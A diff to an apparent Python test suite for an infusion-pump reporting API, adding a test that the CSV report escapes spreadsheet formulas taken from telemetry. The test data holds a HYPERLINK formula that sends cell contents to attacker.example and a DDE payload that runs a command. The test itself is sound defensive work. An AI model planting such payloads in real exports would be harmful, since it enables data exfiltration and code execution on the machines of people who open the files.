@@ -3,6 +3,8 @@ facility isolation, and the window checks."""
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import timedelta
 from typing import Any
 
@@ -168,3 +170,19 @@ def test_an_empty_store_gives_null_rates_for_every_grouping(world: World) -> Non
         assert (body["events"], body["headline"]["infusions"], body["headline"]["compliance"]) == (0, 0, None)
         assert body["headline"]["alarms_per_pump_hour"] is None
         assert all(table["rows"] == [] for table in body["tables"].values())
+
+
+def test_report_csv_writes_a_formula_from_telemetry_as_text(world: World) -> None:
+    team = CqiTeam(world)
+    formula = '=HYPERLINK("http://attacker.example/?x="&A1,"open")'
+    team.store(
+        [
+            event("P-1", 1, 0, "program.checked", "A", **checked("5", "soft", 1, care_area=formula)),
+            event("P-1", 2, 5, "infusion.started", "A", entry_id="+cmd|' /C calc'!A0", rate_ml_per_h="20"),
+        ]
+    )
+    response = world.client.get("/api/v1/cqi/report.csv", headers=team.h("n-pharm"), params=WINDOW)
+    assert response.status_code == 200
+    cells = [cell for row in csv.reader(io.StringIO(response.text, newline="")) for cell in row]
+    assert "'" + formula in cells
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
